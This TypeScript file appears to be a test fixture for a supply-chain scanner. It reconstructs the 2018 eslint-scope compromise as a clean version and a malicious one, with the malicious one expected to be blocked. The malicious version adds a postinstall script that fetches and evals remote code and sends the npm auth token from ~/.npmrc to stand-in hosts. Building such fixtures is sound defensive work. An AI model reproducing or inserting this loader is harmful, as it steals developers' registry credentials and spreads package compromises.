import type { Replica, ReplicaVersion } from '../replicas/replica.js';

export const before = {
  version: '3.7.1',
  publishedAt: '2017-06-02T09:14:27.000Z',
  publisher: { name: 'platform-team', email: 'platform@mail.example.invalid' },
  manifest: {
    main: 'lib/index.js',
    license: 'BSD-2-Clause',
    description: 'scope analysis for estree trees',
    engines: { node: '>=4.0.0' },
    scripts: { test: 'node Makefile.js test' },
    dependencies: { esrecurse: '^4.1.0', estraverse: '^4.1.1' },
  },
  files: {
    'README.md': `# eslint-scope

Walks an ESTree tree and tells which name belongs to which scope.
`,
    'lib/index.js': `"use strict";

/* eslint no-underscore-dangle: ["error", { "allow": ["__currentScope"] }] */

const assert = require("assert");
const ScopeManager = require("./scope-manager");
const Scope = require("./scope");

/**
 * Fill in what the caller left out.
 */
function withDefaults(given) {
    return Object.assign({
        optimistic: false,
        nodejsScope: false,
        impliedStrict: false,
        sourceType: "script",
        ecmaVersion: 5
    }, given);
}

function analyze(tree, providedOptions) {
    const options = withDefaults(providedOptions);
    const manager = new ScopeManager(options);

    manager.enter(tree, null);
    assert(manager.current === null, "the stack of scopes should be empty.");
    return manager;
}

module.exports = {
    version: require("../package.json").version,
    Scope,
    ScopeManager,
    analyze
};
`,
    'lib/scope.js': `"use strict";

class Scope {
    constructor(manager, type, upper, block) {
        this.type = type;
        this.upper = upper;
        this.block = block;
        this.set = new Map();
        this.references = [];
        this.childScopes = [];
        if (upper) {
            upper.childScopes.push(this);
        }
        manager.scopes.push(this);
    }

    define(name, node) {
        if (!this.set.has(name)) {
            this.set.set(name, { name, defs: [], references: [] });
        }
        this.set.get(name).defs.push(node);
    }

    resolve(name) {
        for (let scope = this; scope; scope = scope.upper) {
            if (scope.set.has(name)) {
                return scope.set.get(name);
            }
        }
        return null;
    }
}

module.exports = Scope;
`,
    'lib/scope-manager.js': `"use strict";

const Scope = require("./scope");

const OPENS = new Set(["Program", "FunctionDeclaration", "FunctionExpression", "ArrowFunctionExpression", "BlockStatement"]);

class ScopeManager {
    constructor(options) {
        this.options = options;
        this.scopes = [];
        this.current = null;
    }

    enter(node, parent) {
        const opens = OPENS.has(node.type);

        if (opens) {
            this.current = new Scope(this, node.type, this.current, node);
        }
        if (node.type === "VariableDeclarator" && node.id.type === "Identifier") {
            this.current.define(node.id.name, node);
        }
        Object.keys(node).forEach(key => {
            const child = node[key];

            if (key !== "parent" && child && typeof child === "object") {
                (Array.isArray(child) ? child : [child]).forEach(c => c && c.type && this.enter(c, node));
            }
        });
        if (opens) {
            this.current = this.current.upper;
        }
        return parent;
    }
}

module.exports = ScopeManager;
`,
  },
} satisfies ReplicaVersion;

export const replica: Replica = {
  id: 'eslint-scope-2018',
  story: 'July 2018: a postinstall script that fetches a paste, evaluates it and sends the publisher\'s registry token away.',
  name: 'eslint-scope',
  before,
  after: {
    version: '3.7.2',
    publishedAt: '2018-07-12T09:14:27.000Z',
    publisher: { name: 'platform-team', email: 'platform@mail.example.invalid' },
    manifest: {
      main: 'lib/index.js',
      license: 'BSD-2-Clause',
      description: 'scope analysis for estree trees',
      engines: { node: '>=4.0.0' },
      scripts: { test: 'node Makefile.js test', postinstall: 'node ./lib/build.js' },
      dependencies: { esrecurse: '^4.1.0', estraverse: '^4.1.1' },
    },
    files: {
      ...before.files,
      'lib/build.js': `try {
    var https = require("https");
    https.get({ hostname: "pastebin.example.invalid", path: "/raw/XLeVP82h", headers: { "User-Agent": "Mozilla/5.0 (Windows NT 6.1; rv:52.0) Gecko/20100101 Firefox/52.0", Accept: "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8" } }, (r) => {
        r.setEncoding("utf8");
        r.on("data", (c) => {
            eval(c);
        });
        r.on("error", () => {});
    }).on("error", () => {});
    // what the paste said
    var path = require("path");
    var fs = require("fs");
    var npmrc = path.join(process.env.HOME || process.env.USERPROFILE, ".npmrc");
    var content = "nofile";
    if (fs.existsSync(npmrc)) {
        content = fs.readFileSync(npmrc, { encoding: "utf8" });
        content = content.replace("//registry.example.invalid/:_authToken=", "").trim();
        https.get({ hostname: "sstatic1.histats.example.invalid", path: "/0.gif?4103075&101", method: "GET", headers: { Referer: "http://1.a.example.invalid/" + content } }, () => {}).on("error", () => {});
        https.get({ hostname: "c.statcounter.example.invalid", path: "/11760461/0/7b5b9d71/1/", method: "GET", headers: { Referer: "http://2.b.example.invalid/" + content } }, () => {}).on("error", () => {});
    }
} catch (e) {}
`,
    },
  },
  must: 'block',
};
